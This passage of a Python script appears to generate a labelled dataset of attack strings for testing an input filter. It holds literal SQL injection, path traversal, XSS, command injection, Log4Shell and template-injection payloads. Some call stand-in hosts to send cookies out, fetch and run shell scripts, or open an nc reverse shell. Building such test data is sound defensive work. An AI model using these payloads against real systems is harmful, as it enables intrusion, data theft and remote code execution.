xpath|') or ('a'='a
xpath|1 or 1=1
xpath|weld' or doc('http://attacker.example/x.xml') or '
""")

# Hand-written pools for the small generated share.
SQLI_URLENC = [
    ("tautology", "madder' OR 1=1-- "),
    ("union", "weld' UNION SELECT login,pass FROM staff--"),
    ("stacked", "24-17'; DROP TABLE orders;--"),
    ("blind-time", "rust' AND SLEEP(5)#"),
    ("tautology", "' OR 'x'='x' /* lot */"),
    ("union", "5561) UNION SELECT NULL,api_key FROM settings--"),
    ("error", "Slate' AND extractvalue(1,concat(0x7e,user()))--"),
    ("blind-bool", "cochineal' OR EXISTS(SELECT 1 FROM users)--"),
]
TRAV_URLENC = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "swatches/../../../../root/.bash_history",
    "../../../../proc/self/environ",
    "recipes/../../../var/www/dyeworks/.env",
]
PREFIXES = [
    "Colourway note: ",
    "Supplier reply — ",
    "Lot 24-33 comment: ",
    "Madder bath log ",
    "Customer chat: ",
    "Fastness card F-150 ",
    "PO-7803 remark: ",
    "Studio note, Tue: ",
]
POOLS = {
    "xss": [
        ("event", "<img src=/ onerror=import('//attacker.example/q.js')>"),
        ("event", "<svg><set onbegin=alert(1) attributeName=x to=1>"),
        ("script", "<script>navigator.sendBeacon('//attacker.example',document.cookie)</script>"),
        ("event", "<body onpageshow=alert(1)>"),
        ("attr-break", "\"><img src=x onerror=alert(document.domain)>"),
        ("event", "<iframe onload=alert(1) src=about:blank>"),
    ],
    "cmdi": [
        ("chain", "; curl -s http://attacker.example/i | sh"),
        ("subst", "$(cat /etc/passwd)"),
        ("chain", "| id"),
        ("blind", "; sleep 12 #"),
        ("subst", "`wget -O- 203.0.113.11/x|sh`"),
        ("chain", "&& nc -e /bin/sh 198.51.100.7 9001"),
    ],
    "code": [
        ("ssti-jinja", "{{ namespace.__init__.__globals__.os.popen('id').read() }}"),
        ("log4shell", "${jndi:ldap://attacker.example/c}"),
        ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("ssti-erb", "<%= `id` %>"),
        ("log4shell", "${${lower:jn}di:rmi://198.51.100.2/p}"),
        ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ],
}
GEN_COUNTS = {"xss": 8, "cmdi": 7, "code": 0}
ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    rows = []

    def add(cat, cls, v):
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        if v in seen:
            return False
        seen.add(v)
        rows.append((cat, cls, v))
        return True

    for cat in ORDER:
        for cls, v in LIT[cat]:
            assert add(cat, cls, v), ("dup literal", v)
        if cat == "sqli":
            for cls, v in SQLI_URLENC:
                assert add(cat, cls + "+urlencode", pct_all(v))
        if cat == "traversal":
            for v in TRAV_URLENC:
                assert add(cat, "dotdot+urlencode", pct_all(v))
        if cat in POOLS:
            n = 0
            guard = 0
            while n < GEN_COUNTS[cat]:
                guard += 1
                assert guard < 10000
                cls, p = rng.choice(POOLS[cat])
                if add(cat, cls, rng.choice(PREFIXES) + p):
                    n += 1
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hajy-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
